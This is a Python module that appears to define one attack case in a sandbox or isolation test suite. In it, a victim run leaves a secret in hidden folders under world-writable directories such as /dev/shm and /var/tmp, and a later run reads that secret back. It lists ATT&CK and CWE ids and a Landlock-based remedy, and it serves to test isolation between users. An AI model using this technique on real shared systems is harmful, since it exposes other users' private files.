# SPDX-License-Identifier: MIT
"""other-places.py - there is more than one folder for everybody.

Goal: another student's work.
Means: /tmp is the folder one thinks of. /var/tmp, /dev/shm, /run/lock, /var/lock, /var/crash and
/dev/mqueue are writable for everybody on many systems, and survive the cleaning of /tmp.
"""

import os

from attack import DONE, attempting, denied, failed, loot

PLACES = "/var/tmp", "/dev/shm", "/run/lock", "/var/lock", "/var/crash", "/dev/mqueue"


def run(brief):
    found, why = False, "nothing left anywhere"
    attempting()
    for place in PLACES:
        try:
            with open(f"{place}/.{brief.name}/work", "rb") as file:
                loot(file.read())
            found = True
        except OSError as error:
            why = error
    return DONE if found else denied("open", why)


def victim(brief):
    kept, why = False, None
    for place in *PLACES, ".":  # ".": who may write nowhere else has a folder of one's own
        try:
            os.mkdir(f"{place}/.{brief.name}", 0o700)
            with open(f"{place}/.{brief.name}/work", "w") as file:
                file.write(brief.secret)
            kept = True
        except OSError as error:
            why = error
    return DONE if kept else failed("mkdir", why)


ATTACK = {
    "effect": "the next student reads the last one's file",
    "means": "a file in /dev/shm, /var/tmp and other folders for everybody",
    "oracle": "secret:victim",
    "scene": "after-victim",
    "id": "TMPS-01",
    "attack_id": "T1005, T1074.001, CWE-459",
    "remedy": "Landlock with an allow list of folders; empty every writable one",
    "run": run,
    "victim": victim,
}
